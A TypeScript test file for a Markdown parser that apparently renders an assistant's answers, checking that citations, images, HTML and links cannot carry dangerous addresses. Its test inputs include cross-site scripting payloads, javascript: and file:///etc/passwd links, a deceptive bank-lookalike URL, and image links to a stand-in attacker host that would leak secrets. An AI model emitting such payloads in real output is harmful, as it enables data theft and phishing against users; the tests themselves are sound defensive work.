// @vitest-environment node
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { type Block, type Inline, readMarkdown } from './markdown.ts';

/** Every link of an answer, wherever it hides. */
function linksOf(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(linksOf);
  if (typeof value !== 'object' || value === null) return [];
  const own = 'href' in value && typeof value.href === 'string' ? [value.href] : [];
  return [...own, ...Object.values(value).flatMap(linksOf)];
}

const paragraph = (text: string): Inline[] => {
  const [first] = readMarkdown(text);
  return first?.kind === 'paragraph' ? first.inside : [];
};

describe('the Markdown of an answer', () => {
  it('keeps what an answer needs', () => {
    const kinds = readMarkdown(
      '# Head\n\nText **bold** `code`\n\n- one\n- two\n\n> quote\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```\ncode\n```\n\n---',
    ).map((block: Block) => block.kind);
    expect(kinds).toEqual(['heading', 'paragraph', 'list', 'quote', 'table', 'code', 'rule']);
  });

  it('finds the numbers of citations, also behind bold words and in lists', () => {
    expect(paragraph('Agreed on **Friday** [1][2].')).toEqual([
      { kind: 'text', text: 'Agreed on ' },
      { kind: 'strong', inside: [{ kind: 'text', text: 'Friday' }] },
      { kind: 'text', text: ' ' },
      { kind: 'cite', n: 1 },
      { kind: 'cite', n: 2 },
      { kind: 'text', text: '.' },
    ]);
    expect(readMarkdown('- open [3]')).toMatchObject([
      { items: [[{ inside: [{ text: 'open ' }, { kind: 'cite', n: 3 }] }]] },
    ]);
  });

  it('gives a citation no address of its own', () => {
    const [sentence] = readMarkdown('See [1] and [a][1].\n\n[1]: https://evil.example/steal');
    expect(linksOf(sentence)).toEqual([]);
    expect(JSON.stringify(sentence)).toContain('"kind":"cite"');
  });

  it('shows HTML as text', () => {
    const shown = JSON.stringify(readMarkdown('<img src=x onerror=alert(1)>\n\nA <b>b</b>'));
    expect(shown).toContain('<img src=x onerror=alert(1)>');
    expect(shown).toContain('<b>');
    expect(readMarkdown('<script>alert(1)</script>')[0]?.kind).toBe('paragraph');
  });

  it('shows an image as its words, without its address', () => {
    expect(paragraph('![a chart](https://evil.example/?q=secret)')).toEqual([
      { kind: 'text', text: 'a chart' },
    ]);
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    '/app/companies',
    'https://bank.example@evil.example/',
    'file:///etc/passwd',
  ])('makes no link of %s', (href) => {
    expect(linksOf(readMarkdown(`[click](${href}) and <${href}>`))).toEqual([]);
  });

  it('names the host of a link, whatever its words claim', () => {
    expect(paragraph('[bank.example](https://evil.example/x)')).toEqual([
      {
        kind: 'link',
        href: 'https://evil.example/x',
        host: 'evil.example',
        inside: [{ kind: 'text', text: 'bank.example' }],
      },
    ]);
  });

  it('reads anything, and links lead nowhere but to http, https and mailto', () => {
    const pieces = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '!',
      '*',
      '_',
      '`',
      '\n',
      '- ',
      '> ',
      '|',
      'a',
      'javascript:',
      'https://x.y',
      ' ',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        for (const href of linksOf(readMarkdown(parts.join('')))) {
          expect(href).toMatch(/^(https?:|mailto:)/);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('survives nesting without end', () => {
    expect(() => readMarkdown('> '.repeat(500) + 'deep')).not.toThrow();
  });
});
